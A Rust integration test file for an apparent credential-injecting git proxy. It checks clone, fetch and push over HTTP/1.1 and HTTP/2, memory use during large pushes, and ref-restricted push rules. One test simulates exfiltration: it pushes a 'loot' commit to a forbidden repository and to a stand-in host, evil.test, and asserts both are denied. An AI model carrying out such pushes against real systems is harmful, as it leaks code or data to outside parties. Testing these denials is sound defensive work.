//! git over smart HTTP as a sandbox: it holds no credential, the proxy presents it as Basic.

#![cfg(test)]

#[expect(dead_code, unused_imports, reason = "every test file uses its part of the world")]
mod world;

use std::path::{Path, PathBuf};
use std::process::Command;
use tempfile::TempDir;
use world::{Client, Inject, PseudoRandom, RunningWorld, Service, Upstream, World, is_denial};

const PACK_BYTES: u64 = 100_000_000;
/// What the proxy may grow by while a pack of 100 MB passes.
const GROWTH_KIB_MAX: u64 = 32 * 1024;
const VERSIONS: [&str; 2] = ["HTTP/1.1", "HTTP/2"];

const ROUTES: &str = r#"
  { name = "refs", methods = ["GET"], paths = ["/acme/app.git/info/refs"] },
  { name = "packs", methods = ["POST"], paths = ["/acme/app.git/git-upload-pack", "/acme/app.git/git-receive-pack"] },
"#;

/// Reading everything, and pushing to branches below `feature/`.
const FEATURE_ROUTES: &str = r#"
  { name = "read", paths = ["/acme/app.git/**"], git = { service = "upload-pack" } },
  { name = "push", paths = ["/acme/app.git/**"], git = { service = "receive-pack", refs = "refs/heads/feature/**", update = ["create", "update", "force"] } },
"#;
const READ_ROUTES: &str = r#"
  { name = "read", paths = ["/acme/app.git/**"], git = { service = "upload-pack" } },
"#;

/// Two bare repositories with one commit each, and the world in front of them.
fn world() -> (RunningWorld, TempDir) {
    world_with(ROUTES)
}

fn world_with(routes: &str) -> (RunningWorld, TempDir) {
    let root = TempDir::new().expect("a temporary directory");
    for name in ["app", "secret"] {
        let bare = root.path().join(format!("acme/{name}.git"));
        local(root.path(), &["init", "-q", "--bare", "-b", "main", &bare.display().to_string()]);
        commit_upstream(root.path(), name, "README.md", "The gate.\n");
    }
    let inject = Inject::Basic { username: "x-access-token".to_owned() };
    let upstream = Upstream::new("git", Service::Git(root.path().to_owned())).inject(inject);
    (World::new().upstream(upstream).allow("git", routes).start(), root)
}

/// Adds a commit to a repository without the proxy, as somebody else would.
fn commit_upstream(root: &Path, name: &str, file: &str, text: &str) {
    let work = TempDir::new().expect("a temporary directory");
    let bare = root.join(format!("acme/{name}.git")).display().to_string();
    local(work.path(), &["clone", "-q", &bare, "."]);
    local(work.path(), &["checkout", "-q", "-B", "main"]);
    std::fs::write(work.path().join(file), text).expect("a writable directory");
    local(work.path(), &["add", "."]);
    local(work.path(), &["commit", "-q", "-m", file]);
    local(work.path(), &["push", "-q", "origin", "main"]);
}

/// git outside of the sandbox, on files.
fn local(directory: &Path, arguments: &[&str]) -> String {
    let mut git = Command::new("git");
    git.current_dir(directory).args(arguments).envs(IDENTITY).env("HOME", directory);
    let output = git.output().expect("git runs (tests/prepare installs it)");
    assert!(
        output.status.success(),
        "git {arguments:?}: {}",
        String::from_utf8_lossy(&output.stderr)
    );
    String::from_utf8_lossy(&output.stdout).trim().to_owned()
}

const IDENTITY: [(&str, &str); 5] = [
    ("GIT_AUTHOR_NAME", "Sally"),
    ("GIT_AUTHOR_EMAIL", "sally@git.test"),
    ("GIT_COMMITTER_NAME", "Sally"),
    ("GIT_COMMITTER_EMAIL", "sally@git.test"),
    ("GIT_CONFIG_NOSYSTEM", "1"),
];

/// git in the sandbox: it may not ask for a password, and has none.
fn git<'w>(world: &'w RunningWorld, directory: &Path, version: &str) -> Client<'w> {
    let mut git = world.client("git").directory(directory).env("GIT_TERMINAL_PROMPT", "0");
    for (name, value) in IDENTITY {
        git = git.env(name, value);
    }
    git.args(["-c", &format!("http.version={version}")])
}

/// `HTTP-2`, for names of files.
fn slug(version: &str) -> String {
    version.replace('/', "-")
}

fn clone(world: &RunningWorld, version: &str) -> PathBuf {
    let work = world.home().join(slug(version));
    let clone = git(world, &world.home(), version);
    clone.args(["clone", "-q", "https://git.test/acme/app.git"]).arg(&work).run().succeeded();
    work
}

#[test]
fn git_clones_and_fetches_with_a_credential_that_it_does_not_hold() {
    let (world, root) = world();
    for version in VERSIONS {
        let work = clone(&world, version);
        let readme = std::fs::read_to_string(work.join("README.md")).expect("a working tree");
        assert_eq!(readme, "The gate.\n");

        commit_upstream(root.path(), "app", &format!("by-another-{}", slug(version)), version);
        let head = local(&root.path().join("acme/app.git"), &["rev-parse", "main"]);
        git(&world, &work, version).args(["fetch", "-q"]).run().succeeded();
        assert_eq!(local(&work, &["rev-parse", "origin/main"]), head);
    }
    world.upstream("git").assert_always_authenticated();
    world.check_invariants();
}

#[test]
fn git_pushes_a_pack_of_100_mb_that_is_never_held_whole() {
    let (mut world, root) = world();
    for version in VERSIONS {
        let work = clone(&world, version);
        let file: Vec<u8> = PseudoRandom::new(PACK_BYTES).flatten().collect();
        let name = format!("pack-{}", slug(version));
        std::fs::write(work.join(&name), file).expect("a writable home");
        let fast = ["-c", "core.compression=0", "-c", "core.bigFileThreshold=1m"];
        local(&work, &[&fast[..], &["add", &name]].concat());
        local(&work, &["commit", "-q", "-m", &name]);

        let before = world.process().memory_kib();
        world.process().reset_memory_peak();
        let push = git(&world, &work, version).args(fast);
        push.args(["push", "-q", "origin", "HEAD:main"]).run().succeeded();
        let growth = world.process().memory_peak_kib().saturating_sub(before);
        assert!(growth < GROWTH_KIB_MAX, "{version}: grew by {growth} KiB");

        let head = local(&work, &["rev-parse", "HEAD"]);
        assert_eq!(local(&root.path().join("acme/app.git"), &["rev-parse", "main"]), head);
        local(&root.path().join("acme/app.git"), &["fsck", "--full"]);
        let seen = world.upstream("git").seen();
        let is_pack = |seen: &&world::Seen| seen.body_bytes > PACK_BYTES;
        let pack = seen.iter().rev().find(is_pack).expect("the pack arrived");
        assert_eq!(pack.header("content-length"), None, "git does not know its length");
        // The next clone starts small again.
        local(&root.path().join("acme/app.git"), &["update-ref", "refs/heads/main", "HEAD~1"]);
    }
    world.check_invariants();
}

#[test]
fn git_shows_why_it_may_not_use_a_repository_outside_the_policy() {
    let (world, root) = world();
    let work = clone(&world, "HTTP/1.1");
    std::fs::write(work.join("loot"), "out it goes").expect("a writable home");
    local(&work, &["add", "."]);
    local(&work, &["commit", "-q", "-m", "loot"]);
    let before = local(&root.path().join("acme/secret.git"), &["rev-parse", "main"]);
    for version in VERSIONS {
        for (arguments, host) in [
            (["push", "https://git.test/acme/secret.git", "HEAD:main"], "git.test"),
            (["clone", "https://git.test/acme/secret.git", "stolen"], "git.test"),
            (["push", "https://evil.test/acme/app.git", "HEAD:main"], "evil.test"),
        ] {
            git(&world, &work, version).args(arguments).run().failed().shows_denial("no_route");
            world.audit_line("the denial", |line| is_denial(line, host, "no_route"));
        }
    }
    assert_eq!(local(&root.path().join("acme/secret.git"), &["rev-parse", "main"]), before);
    assert!(world.upstream("git").seen().iter().all(|seen| !seen.path.contains("secret")));
    world.check_invariants();
}

/// Commits a new file with so many incompressible bytes.
fn commit(work: &Path, name: &str, bytes: u64) {
    let content: Vec<u8> = PseudoRandom::new(bytes).flatten().collect();
    std::fs::write(work.join(name), content).expect("a writable home");
    local(work, &["add", name]);
    local(work, &["commit", "-q", "-m", name]);
}

/// What arrived at the upstream to be written.
fn pushes(world: &RunningWorld) -> usize {
    let is_push =
        |seen: &&world::Seen| seen.method == "POST" && seen.path.ends_with("/git-receive-pack");
    world.upstream("git").seen().iter().filter(is_push).count()
}

#[test]
fn a_fetch_only_route_clones_and_fetches_in_every_version_of_the_protocol_and_never_pushes() {
    let (world, root) = world_with(READ_ROUTES);
    let before = local(&root.path().join("acme/app.git"), &["rev-parse", "main"]);
    for version in VERSIONS {
        for protocol in ["0", "1", "2"] {
            let work = world.home().join(format!("{}-{protocol}", slug(version)));
            let clone = git(&world, &world.home(), version)
                .args(["-c", &format!("protocol.version={protocol}")]);
            clone
                .args(["clone", "-q", "https://git.test/acme/app.git"])
                .arg(&work)
                .run()
                .succeeded();
            git(&world, &work, version).args(["fetch", "-q"]).run().succeeded();
        }
        let work = world.home().join(format!("{}-2", slug(version)));
        commit(&work, "loot", 1000);
        let push = git(&world, &work, version).args(["push", "origin", "HEAD:main"]).run().failed();
        push.shows_denial("no_route");
    }
    assert_eq!(pushes(&world), 0);
    assert_eq!(local(&root.path().join("acme/app.git"), &["rev-parse", "main"]), before);
    world.check_invariants();
}

#[test]
fn a_push_inside_of_the_allowed_references_arrives_at_every_size() {
    let (world, root) = world_with(FEATURE_ROUTES);
    for version in VERSIONS {
        let work = clone(&world, version);
        // In one read; larger than what is kept for a replay; without a length.
        for (at, bytes) in [100, 300_000, 3_000_000].into_iter().enumerate() {
            let name = format!("{}-{at}", slug(version));
            commit(&work, &name, bytes);
            let target = format!("HEAD:refs/heads/feature/{}", slug(version));
            git(&world, &work, version).args(["push", "-q", "origin", &target]).run().succeeded();
            let head = local(&work, &["rev-parse", "HEAD"]);
            let there = format!("feature/{}", slug(version));
            assert_eq!(local(&root.path().join("acme/app.git"), &["rev-parse", &there]), head);
        }
    }
    local(&root.path().join("acme/app.git"), &["fsck", "--full"]);
    world.upstream("git").assert_always_authenticated();
    world.check_invariants();
}

#[test]
fn git_shows_why_a_push_outside_of_the_allowed_references_is_refused() {
    let (world, root) = world_with(FEATURE_ROUTES);
    let bare = root.path().join("acme/app.git");
    local(&bare, &["update-ref", "refs/heads/feature/old", "main"]);
    let before = local(&bare, &["for-each-ref"]);
    for version in VERSIONS {
        let work = clone(&world, version);
        for (at, bytes) in [100, 3_000_000].into_iter().enumerate() {
            commit(&work, &format!("{}-{at}", slug(version)), bytes);
            for references in [
                &["HEAD:refs/heads/main"][..],
                &["+HEAD:refs/heads/main"],
                &["HEAD:refs/heads/featured"],
                &["HEAD:refs/tags/v1"],
                &[":refs/heads/feature/old"],
                &[":refs/heads/main"],
                &["HEAD:refs/heads/feature/new", "HEAD:refs/heads/main"],
                &["HEAD:refs/heads/feature/new", ":refs/heads/feature/old"],
            ] {
                let push = git(&world, &work, version).args(["push", "origin"]).args(references);
                let push = push.run().failed();
                push.shows_denial("no_route");
                assert!(
                    push.stderr.contains("[remote rejected]"),
                    "{version} {references:?} {push}"
                );
                assert!(
                    push.stderr.contains("remote: sallygate: "),
                    "{version} {references:?} {push}"
                );
            }
        }
    }
    world.audit_line("the denial", |line| is_denial(line, "git.test", "no_route"));
    assert_eq!(local(&bare, &["for-each-ref"]), before);
    // Large pushes begin with an attempt that carries nothing, and that is all that arrives.
    let is_push =
        |seen: &&world::Seen| seen.path.ends_with("/git-receive-pack") && seen.body_bytes > 4;
    assert_eq!(world.upstream("git").seen().iter().filter(is_push).count(), 0);
    world.check_invariants();
}
